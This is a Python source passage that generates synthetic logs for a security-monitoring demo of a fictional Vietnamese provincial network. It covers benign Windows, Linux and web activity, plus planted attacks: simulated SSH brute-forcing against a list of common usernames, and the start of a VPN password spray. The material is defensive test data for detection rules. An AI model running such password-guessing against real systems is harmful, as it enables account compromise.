"""Write the bundled sample logs of `socpipe demo`: one day (2026-11-27, +07:00) of the demo province.

The logs are generated, not captured, so they hold no real person's data; a fixed seed makes every run
write the same bytes, so the files kept in the repository can be checked and regenerated. Most events are
ordinary office and server activity; the attacks listed in planted.yaml are woven in, and the tests check
that the starter rules find each of them on its host.

Times: Windows events carry UTC, access logs local time with its +0700 offset, and the Linux servers
log in UTC (RFC 3164 has no zone, and the pipeline reads it as UTC), so all sources agree.

Run: python socpipe/demo/make_samples.py  (writes samples/windows.jsonl, auth.log, access-*.log)
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
SAMPLES = HERE / "samples"
# Access logs do not name their server: socpipe/demo.py maps these file names to the registry's hosts.
ACCESS_FILES = {"dvc-web01": "access-dichvucong.log", "cttdt-web01": "access-congthongtin.log"}
LOCAL = timezone(timedelta(hours=7))
DAY = datetime(2026, 11, 27, tzinfo=LOCAL)
SEED = 20261127

SYSMON = (
    "Microsoft-Windows-Sysmon",
    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    "Microsoft-Windows-Sysmon/Operational",
)
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Security")
POWERSHELL = (
    "Microsoft-Windows-PowerShell",
    "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
    "Microsoft-Windows-PowerShell/Operational",
)
EVENTLOG = ("Microsoft-Windows-Eventlog", "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}", "Security")
SCM = ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}", "System")
PROVIDER_PIDS = {SYSMON[0]: 3120, SECURITY[0]: 712, EVENTLOG[0]: 1364, SCM[0]: 688, POWERSHELL[0]: 5208}

# Attackers and their servers use documentation ranges (RFC 5737): no real party is named.
SSH_BRUTE = "203.0.113.45"
RDP_BRUTE = "203.0.113.172"
VPN_SPRAY = "198.51.100.22"
SQLMAP = "198.51.100.14"
WEBSHELL = "203.0.113.77"
C2 = "198.51.100.2"
SCANNER = "203.0.113.92"
SWEEP = "203.0.113.210"

SYS32 = "C:\\Windows\\System32\\"
POWERSHELL_EXE = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
LOGON_PROCESSES = {2: SYS32 + "winlogon.exe", 7: SYS32 + "winlogon.exe", 10: SYS32 + "svchost.exe"}


@dataclass(frozen=True, slots=True)
class Host:
    """A Windows machine of the demo registry: its name, domain (or workgroup name), users and address."""

    fqdn: str
    domain: str
    users: tuple[str, ...]
    ip: str

    @property
    def short(self) -> str:
        return self.fqdn.split(".")[0].upper()


WORKSTATIONS = [
    Host("ws-snv-01.snv.ankhanh.gov.vn", "ANKHANH", ("phamthihoa", "dangvanminh"), "172.16.11.41"),
    Host("ws-snv-02.snv.ankhanh.gov.vn", "ANKHANH", ("lethilan",), "172.16.11.42"),
    Host("ws-snv-03.snv.ankhanh.gov.vn", "ANKHANH", ("nguyenvanan",), "172.16.11.43"),
    Host("ws-stc-01.stc.ankhanh.gov.vn", "ANKHANH", ("hoangvanthang",), "172.16.12.31"),
    Host("ws-stc-02.stc.ankhanh.gov.vn", "ANKHANH", ("tranthibich",), "172.16.12.32"),
    Host("ws-stc-03.stc.ankhanh.gov.vn", "ANKHANH", ("vuthithu",), "172.16.12.33"),
    Host("ws-syt-01.syt.ankhanh.gov.vn", "ANKHANH", ("buivanhung", "dothimai"), "172.16.13.21"),
    Host("ws-syt-02.syt.ankhanh.gov.vn", "ANKHANH", ("ngothiyen",), "172.16.13.22"),
    Host("pc-mc01.binhlac.ankhanh.gov.vn", "PC-MC01", ("motcua", "canbo"), "172.16.101.11"),
    Host("pc-mc02.binhlac.ankhanh.gov.vn", "PC-MC02", ("motcua",), "172.16.101.12"),
    Host("pc-01.hoaphong.ankhanh.gov.vn", "PC-01", ("vanthu",), "172.16.102.11"),
]
QLVB = Host("qlvb-app01.dc.ankhanh.gov.vn", "ANKHANH", ("qt.qlvb",), "10.10.20.15")
AD = Host("sso-ad01.dc.ankhanh.gov.vn", "ANKHANH", ("qt.sso",), "10.10.50.4")
SERVERS = [QLVB, AD]

DOCUMENTS = [
    "Bao_cao_thang_11_2026.docx",
    "To_trinh_phe_duyet_du_toan.docx",
    "Ke_hoach_chuyen_doi_so_2027.docx",
    "Quyet_dinh_bo_nhiem.docx",
    "Cong_van_so_1527.docx",
    "Bien_ban_hop_giao_ban.docx",
]
SHEETS = ["Tong_hop_kinh_phi_Q4.xlsx", "Danh_sach_can_bo.xlsx", "Thong_ke_ho_so_DVC.xlsx"]
PDFS = ["Nghi_dinh_huong_dan.pdf", "Thong_tu_12_2022.pdf", "Giay_moi_hop.pdf", "Van_ban_den_0912.pdf"]


def _guid(rng: random.Random) -> str:
    return "{" + str(uuid.UUID(int=rng.getrandbits(128))).upper() + "}"


def _home(account: str) -> str:
    return "C:\\Users\\" + account.rsplit("\\", 1)[-1]


def _record_base(computer: str, channel: str) -> int:
    """Where a host's log was numbered before the demo day: stable, and different per host and channel."""
    return 20000 + int(hashlib.sha256(f"{computer}/{channel}".encode()).hexdigest()[:6], 16) % 900000


def _hashes(image: str) -> str:
    """Stable fake hashes per file name, so one program always shows the same hash."""
    digest = hashlib.sha256(image.lower().encode()).hexdigest()
    return f"SHA256={digest.upper()},IMPHASH={digest[:32].upper()}"


class Samples:
    """Collects the events of all sources with their times; writes each file in time order."""

    def __init__(self) -> None:
        self.rng = random.Random(SEED)
        self.windows: list[tuple[datetime, int, dict[str, Any]]] = []
        self.syslog: list[tuple[datetime, int, str]] = []
        self.access: dict[str, list[tuple[datetime, int, str]]] = {}
        self._pids: dict[str, int] = {}
        self._serial = 0

    def _next(self) -> int:
        self._serial += 1
        return self._serial

    def at(self, hour: float, spread_minutes: float = 0.0) -> datetime:
        """A local time on the demo day: `hour` as a decimal, jittered by up to `spread_minutes`."""
        seconds = hour * 3600 + self.rng.uniform(0, spread_minutes * 60)
        return DAY + timedelta(seconds=min(seconds, 86399.999))

    def office_time(self) -> datetime:
        """A time in working hours (7:30-11:30, 13:30-17:00), when most benign activity happens."""
        if self.rng.random() < 0.55:
            return self.at(7.5, 240)
        return self.at(13.5, 210)

    def _process(self, when: datetime, host: Host, image: str) -> dict[str, object]:
        """The fields every Sysmon event about one process starts with."""
        return {
            "RuleName": "-",
            "UtcTime": when.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": _guid(self.rng),
            "ProcessId": self.pid(host),
            "Image": image,
        }

    def pid(self, host: Host) -> int:
        self._pids[host.fqdn] = self._pids.get(host.fqdn, 1000) + self.rng.randint(4, 400)
        return self._pids[host.fqdn]

    def win(
        self,
        when: datetime,
        host: Host,
        provider: tuple[str, str, str],
        event_id: int,
        data: dict[str, Any],
        *,
        user_data: str | None = None,
    ) -> None:
        """One event in the nested JSON form of an EVTX export (as evtx_dump writes it)."""
        name, guid, channel = provider
        utc = when.astimezone(UTC)
        system = {
            "Provider": {"#attributes": {"Name": name, "Guid": guid}},
            "EventID": event_id,
            "Level": 0 if channel == "Security" else 4,
            "TimeCreated": {"#attributes": {"SystemTime": utc.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": 0,  # numbered per host and channel in time order by write()
            "Execution": {"#attributes": {"ProcessID": PROVIDER_PIDS.get(name, 4), "ThreadID": 4480}},
            "Channel": channel,
            "Computer": host.fqdn,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}} if name == SYSMON[0] else None,
        }
        event: dict[str, Any] = {"System": system}
        if user_data:
            event["UserData"] = {user_data: data}
        else:
            event["EventData"] = data
        self.windows.append((when, self._next(), {"Event": event}))

    def sysmon_process(
        self,
        when: datetime,
        host: Host,
        user: str,
        image: str,
        command_line: str,
        parent: str,
        parent_command_line: str,
        original_name: str | None = None,
        integrity: str = "Medium",
    ) -> None:
        file_name = image.rsplit("\\", 1)[-1]
        self.win(
            when,
            host,
            SYSMON,
            1,
            {
                **self._process(when, host, image),
                "OriginalFileName": original_name or file_name,
                "CommandLine": command_line,
                "CurrentDirectory": SYS32 if user.startswith(("NT AUTHORITY", "IIS")) else _home(user) + "\\",
                "User": user,
                "LogonId": "0x" + format(self.rng.getrandbits(24), "x"),
                "IntegrityLevel": integrity,
                "Hashes": _hashes(image),
                "ParentProcessGuid": _guid(self.rng),
                "ParentProcessId": self.pid(host),
                "ParentImage": parent,
                "ParentCommandLine": parent_command_line,
            },
        )

    def sysmon_network(self, when: datetime, host: Host, user: str, image: str, ip: str, port: int) -> None:
        self.win(
            when,
            host,
            SYSMON,
            3,
            {
                **self._process(when, host, image),
                "User": user,
                "Protocol": "tcp",
                "Initiated": True,
                "SourceIp": host.ip,
                "SourcePort": self.rng.randint(49152, 65000),
                "DestinationIp": ip,
                "DestinationPort": port,
            },
        )

    def sysmon_file(self, when: datetime, host: Host, user: str, image: str, target: str) -> None:
        self.win(
            when,
            host,
            SYSMON,
            11,
            {
                **self._process(when, host, image),
                "TargetFilename": target,
                "CreationUtcTime": when.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "User": user,
            },
        )

    def logon(
        self,
        when: datetime,
        host: Host,
        user: str,
        logon_type: int,
        ip: str,
        *,
        failed: bool = False,
        sub_status: str = "0xc000006a",
    ) -> None:
        """A successful (4624) or failed (4625) logon; types 2, 7 and 10 are interactive."""
        interactive = logon_type in (2, 7, 10)
        data: dict[str, Any] = {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": f"{host.short}$",
            "SubjectDomainName": host.domain if host.domain != host.short else "WORKGROUP",
            "SubjectLogonId": "0x3e7",
            "TargetUserSid": "S-1-0-0"
            if failed
            else f"S-1-5-21-1004336348-1177238915-682003330-{1100 + len(user)}",
            "TargetUserName": user,
            "TargetDomainName": host.domain,
            "LogonType": logon_type,
            "LogonProcessName": "User32 " if interactive else "NtLmSsp ",
            "AuthenticationPackageName": "Negotiate" if interactive else "NTLM",
            "WorkstationName": host.short,
            "ProcessName": LOGON_PROCESSES.get(logon_type, "-"),
            "IpAddress": ip,
            "IpPort": "0",
        }
        if failed:
            data.update({"Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": sub_status})
        else:
            data["TargetLogonId"] = "0x" + format(self.rng.getrandbits(24), "x")
        self.win(when, host, SECURITY, 4625 if failed else 4624, data)

    def ps_script(self, when: datetime, host: Host, text: str, path: str = "") -> None:
        self.win(
            when,
            host,
            POWERSHELL,
            4104,
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": text,
                "ScriptBlockId": str(uuid.UUID(int=self.rng.getrandbits(128))),
                "Path": path,
            },
        )

    def syslog_line(
        self, when: datetime, host: str, program: str, message: str, pid: int | None = None
    ) -> None:
        """An RFC 3164 line as in /var/log/auth.log (server clock in UTC, no year, no priority)."""
        tag = f"{program}[{pid}]" if pid is not None else program
        utc = when.astimezone(UTC)
        stamp = f"{utc.strftime('%b')} {utc.day:>2} {utc.strftime('%H:%M:%S')}"
        self.syslog.append((when, self._next(), f"{stamp} {host} {tag}: {message}"))

    def access_line(
        self,
        host: str,
        when: datetime,
        ip: str,
        method: str,
        uri: str,
        status: int,
        size: int,
        referer: str = "-",
        agent: str = "-",
        user: str = "-",
    ) -> None:
        """A line of the Apache/Nginx combined log format."""
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
        line = f'{ip} - {user} [{stamp}] "{method} {uri} HTTP/1.1" {status} {size} "{referer}" "{agent}"'
        self.access.setdefault(host, []).append((when, self._next(), line))

    def write(self, folder: Path) -> dict[str, int]:
        """Write every file in time order; returns the number of events per file name."""
        counts: dict[str, int] = {}
        records: dict[tuple[str, str], int] = {}
        with open(folder / "windows.jsonl", "w", encoding="utf-8", newline="\n") as out:
            for _, _, event in sorted(self.windows, key=lambda item: item[:2]):
                system = event["Event"]["System"]
                key = (system["Computer"], system["Channel"])
                records[key] = records.get(key, _record_base(*key)) + 1
                system["EventRecordID"] = records[key]
                out.write(json.dumps(event, ensure_ascii=False, separators=(",", ":")) + "\n")
        counts["windows.jsonl"] = len(self.windows)
        (folder / "auth.log").write_text(
            "".join(line + "\n" for _, _, line in sorted(self.syslog)), encoding="utf-8", newline="\n"
        )
        counts["auth.log"] = len(self.syslog)
        for host, lines in sorted(self.access.items()):
            name = ACCESS_FILES[host]
            (folder / name).write_text("".join(line + "\n" for _, _, line in sorted(lines)), encoding="utf-8")
            counts[name] = len(lines)
        return counts


# --- benign activity -------------------------------------------------------------------------------


def workstation_day(s: Samples, host: Host) -> None:
    """A civil servant's day: logon, Office, browser, Zalo, PDF reader, signing client, lock/unlock."""
    rng = s.rng
    for user in host.users:
        account = f"{host.domain}\\{user}"
        home = f"C:\\Users\\{user}"
        s.logon(s.at(7.4, 40), host, user, 2, "127.0.0.1")
        for _ in range(rng.randint(45, 60)):
            when = s.office_time()
            choice = rng.random()
            if choice < 0.18:
                doc = rng.choice(DOCUMENTS)
                s.sysmon_process(
                    when,
                    host,
                    account,
                    OFFICE + "WINWORD.EXE",
                    f'"{OFFICE}WINWORD.EXE" /n "{home}\\Documents\\{doc}"',
                    EXPLORER,
                    EXPLORER,
                    "WinWord.exe",
                )
                s.sysmon_file(
                    when + timedelta(seconds=2),
                    host,
                    account,
                    OFFICE + "WINWORD.EXE",
                    f"{home}\\Documents\\~${doc[2:]}",
                )
            elif choice < 0.28:
                sheet = rng.choice(SHEETS)
                s.sysmon_process(
                    when,
                    host,
                    account,
                    OFFICE + "EXCEL.EXE",
                    f'"{OFFICE}EXCEL.EXE" "{home}\\Documents\\{sheet}"',
                    EXPLORER,
                    EXPLORER,
                    "Excel.exe",
                )
            elif choice < 0.48:
                site = rng.choice(
                    [
                        ("10.10.20.15", 443),
                        ("10.10.30.10", 443),
                        ("142.250.66.78", 443),
                        ("10.10.50.5", 443),
                        ("203.162.71.6", 443),
                        ("113.171.230.19", 443),
                    ]
                )
                s.sysmon_network(when, host, account, CHROME, *site)
            elif choice < 0.58:
                pdf = rng.choice(PDFS)
                s.sysmon_file(when, host, account, CHROME, f"{home}\\Downloads\\{pdf}")
                reader = "C:\\Program Files\\Foxit Software\\Foxit PDF Reader\\FoxitPDFReader.exe"
                s.sysmon_process(
                    when + timedelta(seconds=5),
                    host,
                    account,
                    reader,
                    f'"{reader}" "{home}\\Downloads\\{pdf}"',
                    EXPLORER,
                    EXPLORER,
                )
            elif choice < 0.70:
                zalo = f"{home}\\AppData\\Local\\Programs\\Zalo\\Zalo.exe"
                s.sysmon_network(
                    when, host, account, zalo, rng.choice(["49.213.78.18", "120.138.69.81"]), 443
                )
            elif choice < 0.78:
                s.sysmon_process(
                    when,
                    host,
                    "NT AUTHORITY\\SYSTEM",
                    SYS32 + "taskhostw.exe",
                    "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
                    SYS32 + "svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    integrity="System",
                )
            elif choice < 0.86:
                sign = "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe"
                s.sysmon_process(
                    when,
                    host,
                    account,
                    sign,
                    f'"{sign}" --sign "{home}\\Documents\\{rng.choice(DOCUMENTS).replace(".docx", ".pdf")}"',
                    EXPLORER,
                    EXPLORER,
                )
            elif choice < 0.92:
                s.logon(when, host, user, 7, "127.0.0.1")
            elif choice < 0.96:
                s.sysmon_process(
                    when,
                    host,
                    account,
                    SYS32 + "ipconfig.exe",
                    "ipconfig /all",
                    SYS32 + "cmd.exe",
                    '"C:\\Windows\\system32\\cmd.exe"',
                    "ipconfig.exe",
                )
            else:
                s.logon(when, host, user, 2, "127.0.0.1", failed=True)
        s.ps_script(
            s.at(7.6, 20),
            host,
            "$os = Get-CimInstance Win32_OperatingSystem\n"
            "$inv = [pscustomobject]@{Host=$env:COMPUTERNAME; OS=$os.Caption; Build=$os.BuildNumber}\n"
            "$inv | ConvertTo-Json | Out-File \\\\ankhanh.local\\NETLOGON\\inventory\\$env:COMPUTERNAME.json",
            "\\\\ankhanh.local\\NETLOGON\\inventory.ps1",
        )
    defender = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe"
    for hour in (9.0, 15.0):
        s.win(
            s.at(hour, 30),
            host,
            SYSMON,
            10,
            {
                "RuleName": "-",
                "SourceProcessGUID": _guid(s.rng),
                "SourceImage": defender,
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1410",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                "C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
            },
        )


def legitimate_vgca_install(s: Samples) -> None:
    """A genuine signing-client update on another workstation: the near miss of the SignSight rules."""
    host = WORKSTATIONS[1]
    account = f"{host.domain}\\{host.users[0]}"
    setup = f"C:\\Users\\{host.users[0]}\\Downloads\\vgca_signclient_setup_2.1.exe"
    when = s.at(10.2, 5)
    s.sysmon_file(when, host, account, CHROME, setup)
    s.sysmon_process(when + timedelta(seconds=20), host, account, setup, f'"{setup}"', EXPLORER, EXPLORER)
    s.sysmon_file(
        when + timedelta(seconds=30),
        host,
        account,
        setup,
        "C:\\Program Files\\VGCA\\Sign Client\\VGCASignClient.exe",
    )
    s.sysmon_process(
        when + timedelta(seconds=40),
        host,
        account,
        SYS32 + "certutil.exe",
        "certutil.exe -addstore Root vgca_root_ca.cer",
        setup,
        f'"{setup}"',
        "CertUtil.exe",
    )
    s.win(
        when + timedelta(seconds=45),
        host,
        SCM,
        7045,
        {
            "ServiceName": "VGCA Sign Service",
            "ImagePath": '"C:\\Program Files\\VGCA\\Sign Client\\VGCASignService.exe"',
            "ServiceType": "user mode service",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        },
    )


def server_day(s: Samples) -> None:
    """Servers in the data centre: network logons from workstations, admin PowerShell, service events."""
    rng = s.rng
    for _ in range(160):
        client = rng.choice(WORKSTATIONS)
        s.logon(s.office_time(), QLVB, rng.choice(client.users), 3, client.ip)
    for _ in range(140):
        client = rng.choice(WORKSTATIONS)
        s.logon(s.office_time(), AD, rng.choice(client.users), 3, client.ip)
    w3wp = SYS32 + "inetsrv\\w3wp.exe"
    for _ in range(40):
        s.sysmon_process(
            s.office_time(),
            QLVB,
            "IIS APPPOOL\\QLVB",
            SYS32 + "conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            w3wp,
            'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "QLVB" -v "v4.0"',
            integrity="High",
        )
    for _ in range(50):
        when = s.office_time()
        s.win(
            when,
            AD,
            SECURITY,
            4688,
            {
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": "SSO-AD01$",
                "SubjectDomainName": "ANKHANH",
                "SubjectLogonId": "0x3e7",
                "NewProcessId": hex(s.pid(AD)),
                "NewProcessName": SYS32
                + rng.choice(["gpupdate.exe", "dfsrdiag.exe", "repadmin.exe", "w32tm.exe"]),
                "TokenElevationType": "%%1936",
                "ProcessId": hex(s.pid(AD)),
                "CommandLine": "",
                "ParentProcessName": SYS32 + "svchost.exe",
                "MandatoryLabel": "S-1-16-16384",
            },
        )
    scripts = [
        "Get-ADUser -Filter {Enabled -eq $true} -SearchBase 'OU=SoNoiVu,DC=ankhanh,DC=local' "
        "| Measure-Object",
        "Get-Service W3SVC, QLVBWorker | Select-Object Name, Status",
        "Invoke-WebRequest -Uri https://lgsp.ankhanh.gov.vn/health -UseBasicParsing "
        "| Select-Object StatusCode",
        "Get-EventLog -LogName Application -Newest 50 -EntryType Error",
    ]
    for _ in range(30):
        s.ps_script(s.office_time(), rng.choice(SERVERS), rng.choice(scripts))
    for _ in range(60):
        host = rng.choice([*SERVERS, *WORKSTATIONS])
        name = rng.choice(
            [
                "Windows Update",
                "Background Intelligent Transfer Service",
                "WinHTTP Web Proxy Auto-Discovery Service",
                "Windows Modules Installer",
            ]
        )
        s.win(s.at(0, 1439), host, SCM, 7036, {"param1": name, "param2": rng.choice(["running", "stopped"])})


VN_CLIENTS = [
    "113.161.{}.{}",
    "14.232.{}.{}",
    "27.72.{}.{}",
    "171.241.{}.{}",
    "42.114.{}.{}",
    "58.187.{}.{}",
    "1.54.{}.{}",
    "116.110.{}.{}",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "coc_coc_browser/130.0.244 "
    "Chrome/124.0.6367.244 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Mobile "
    "Safari/537.36 Zalo android/12100511 ZaloTheme/light ZaloLanguage/vn",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
PROCEDURES = ["1.001234", "1.004227", "2.000889", "1.009994", "2.001543", "1.010812"]
FIELDS = ["hotich", "datdai", "doanhnghiep", "xaydung", "tuphap", "laodong"]


def _client(rng: random.Random) -> str:
    return rng.choice(VN_CLIENTS).format(rng.randint(0, 255), rng.randint(1, 254))


def _dossier(rng: random.Random) -> str:
    return f"000.00.{rng.randint(10, 40)}.H01-2611{rng.randint(20, 27)}-{rng.randint(1, 9999):04d}"


def portal_day(s: Samples) -> None:
    """Citizens using the public-service portal (dvc-web01, behind Nginx) during the day."""
    rng = s.rng
    host = "dvc-web01"
    for _ in range(220):
        ip, agent, when = _client(rng), rng.choice(AGENTS), s.office_time()
        visit: list[tuple[str, str, int, int]] = [
            ("GET", "/dichvucong/", 200, rng.randint(18000, 26000)),
            ("GET", "/dichvucong/static/css/app.min.css", 200, 48211),
            ("GET", "/dichvucong/static/js/app.min.js", 200, 301877),
        ]
        page = rng.random()
        if page < 0.4:
            visit.append(
                ("GET", f"/dichvucong/tracuu/hoso?mahoso={_dossier(rng)}", 200, rng.randint(3000, 9000))
            )
        elif page < 0.7:
            visit.append(
                (
                    "GET",
                    f"/dichvucong/thutuchanhchinh?linhvuc={rng.choice(FIELDS)}&page={rng.randint(1, 5)}",
                    200,
                    rng.randint(9000, 30000),
                )
            )
            visit.append(
                (
                    "GET",
                    f"/dichvucong/thutuchanhchinh/chitiet?ma={rng.choice(PROCEDURES)}",
                    200,
                    rng.randint(12000, 20000),
                )
            )
        elif page < 0.9:
            visit.append(("GET", "/dichvucong/dangnhap", 302, 0))
            visit.append(("GET", f"/dichvucong/dvctructuyen/nophoso?ma={rng.choice(PROCEDURES)}", 200, 15890))
            visit.append(("POST", "/dichvucong/dvctructuyen/nophoso/dinhkem", 200, 211))
            visit.append(
                (
                    "GET",
                    f"/dichvucong/upload/hoso/2026/11/{_dossier(rng)}_tokhai.pdf",
                    200,
                    rng.randint(80000, 400000),
                )
            )
        else:
            visit.append(
                ("GET", "/dichvucong/thanhtoan/ketqua?ma=" + str(rng.randint(10**9, 10**10)), 200, 4120)
            )
        referer = "-"
        for offset, (method, uri, status, size) in enumerate(visit):
            s.access_line(
                host,
                when + timedelta(seconds=offset * rng.uniform(0.2, 9)),
                ip,
                method,
                uri,
                status,
                size,
                referer,
                agent,
            )
            referer = "https://dichvucong.ankhanh.gov.vn/dichvucong/"
    for _ in range(30):
        s.access_line(
            host, s.at(0, 1439), _client(rng), "GET", "/favicon.ico", 404, 162, "-", rng.choice(AGENTS)
        )
    for _ in range(40):
        s.access_line(
            host,
            s.office_time(),
            "10.10.99.15",
            "GET",
            "/quantri/thongke?ngay=2026-11-27",
            200,
            rng.randint(5000, 8000),
            "-",
            AGENTS[0],
            "qt.dvc",
        )


def egov_portal_day(s: Samples) -> None:
    """The provincial e-government portal (www, cttdt-web01): news and legal documents."""
    rng = s.rng
    host = "cttdt-web01"
    pages = [
        "/",
        "/tin-tuc/hoat-dong-cua-lanh-dao-tinh",
        "/tin-tuc/kinh-te-xa-hoi",
        "/van-ban/chi-dao-dieu-hanh",
        "/gioi-thieu/tong-quan",
        "/lien-he",
        "/tintuc/chitiet?id={}",
        "/van-ban/chitiet?so={}%2FQD-UBND",
    ]
    for _ in range(520):
        page = rng.choice(pages).format(rng.randint(1000, 9999))
        s.access_line(
            host,
            s.at(6, 1000),
            _client(rng),
            "GET",
            page,
            200,
            rng.randint(9000, 60000),
            rng.choice(["-", "https://www.google.com/", "https://ankhanh.gov.vn/"]),
            rng.choice(AGENTS),
        )
    for _ in range(25):
        s.access_line(
            host,
            s.at(0, 1439),
            _client(rng),
            "GET",
            "/wp-content/uploads/old.pdf",
            404,
            162,
            "-",
            rng.choice(AGENTS),
        )


def linux_day(s: Samples) -> None:
    """Routine auth.log lines of the Linux servers: admin SSH sessions, sudo, cron, an occasional typo."""
    rng = s.rng
    hosts = ["dvc-web01", "dvc-web02", "lgsp-gw01", "mx01", "sso-idp01", "vpn-gw01", "cttdt-web01"]
    for host in hosts:
        for hour in range(24):
            for minute in (17,):
                when = DAY + timedelta(hours=hour, minutes=minute, seconds=1)
                pid = rng.randint(10000, 60000)
                s.syslog_line(
                    when,
                    host,
                    "CRON",
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                    pid,
                )
                s.syslog_line(
                    when, host, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", pid
                )
                s.syslog_line(
                    when + timedelta(seconds=1),
                    host,
                    "CRON",
                    "pam_unix(cron:session): session closed for user root",
                    pid,
                )
        for _ in range(rng.randint(3, 6)):
            when, pid = s.office_time(), rng.randint(10000, 60000)
            admin = rng.choice(["quantri", "tranvanbinh", "lehoangnam"])
            src = f"10.10.99.{rng.randint(5, 20)}"
            if rng.random() < 0.25:
                s.syslog_line(
                    when - timedelta(seconds=6),
                    host,
                    "sshd",
                    f"Failed password for {admin} from {src} port {rng.randint(40000, 65000)} ssh2",
                    pid,
                )
            s.syslog_line(
                when,
                host,
                "sshd",
                f"Accepted publickey for {admin} from {src} port "
                f"{rng.randint(40000, 65000)} ssh2: ED25519 SHA256:3kq0Zb8fQ1m9yWc7v2x5LtR4oPa6s",
                pid,
            )
            s.syslog_line(
                when,
                host,
                "sshd",
                f"pam_unix(sshd:session): session opened for user {admin}(uid=1001) by (uid=0)",
                pid,
            )
            s.syslog_line(
                when,
                host,
                "systemd-logind",
                f"New session {rng.randint(100, 999)} of user {admin}.",
                rng.randint(500, 900),
            )
            command = rng.choice(
                [
                    "/usr/bin/systemctl restart nginx",
                    "/usr/bin/apt update",
                    "/usr/bin/journalctl -u tomcat --since today",
                    "/usr/bin/tail -n 200 /var/log/syslog",
                ]
            )
            sudo_at = when + timedelta(minutes=rng.randint(1, 20))
            s.syslog_line(
                sudo_at,
                host,
                "sudo",
                f"  {admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND={command}",
            )
            s.syslog_line(
                sudo_at,
                host,
                "sudo",
                f"pam_unix(sudo:session): session opened for user root(uid=0) by {admin}(uid=1001)",
            )
            s.syslog_line(
                sudo_at + timedelta(minutes=rng.randint(1, 30)),
                host,
                "sshd",
                f"pam_unix(sshd:session): session closed for user {admin}",
                pid,
            )
    for _ in range(90):
        when, pid = s.office_time(), rng.randint(1000, 9000)
        user = rng.choice(["canbo.snv", "canbo.stc", "ketoan.stc", "yte.syt", "motcua.binhlac"])
        s.syslog_line(
            when,
            "vpn-gw01",
            "openvpn",
            f"{_client(rng)}:{rng.randint(40000, 65000)} [{user}] Peer "
            "Connection Initiated with [AF_INET]" + _client(rng) + f":{rng.randint(40000, 65000)}",
            pid,
        )


# --- planted attacks (see planted.yaml) --------------------------------------------------------------


def attack_ssh_bruteforce(s: Samples) -> None:
    """Password guessing against a portal server's SSH from the Internet, 01:40-01:55 local."""
    rng = s.rng
    names = [
        "root",
        "admin",
        "oracle",
        "ubuntu",
        "test",
        "postgres",
        "user",
        "ftpuser",
        "quantri",
        "administrator",
    ]
    start = s.at(1 + 40 / 60, 1)
    for i in range(130):
        when = start + timedelta(seconds=i * 7 + rng.uniform(0, 3))
        pid, port, name = rng.randint(20000, 30000), rng.randint(30000, 65000), rng.choice(names)
        if name in ("root", "quantri"):
            s.syslog_line(
                when,
                "dvc-web02",
                "sshd",
                f"Failed password for {name} from {SSH_BRUTE} port {port} ssh2",
                pid,
            )
        else:
            s.syslog_line(when, "dvc-web02", "sshd", f"Invalid user {name} from {SSH_BRUTE} port {port}", pid)
            s.syslog_line(
                when + timedelta(seconds=2),
                "dvc-web02",
                "sshd",
                f"Failed password for invalid user {name} from {SSH_BRUTE} port {port} ssh2",
                pid,
            )


def attack_vpn_spray(s: Samples) -> None:
    """Password spraying of staff VPN accounts, 22:05-22:20 local."""
    rng = s.rng
    start = s.at(22 + 5 / 60, 1)
    users = ["canbo.snv", "ketoan.stc", "vanthu.hoaphong", "yte.syt", "motcua.binhlac", "admin", "vpnuser"]
    for i in range(42):
        when, pid, port = (
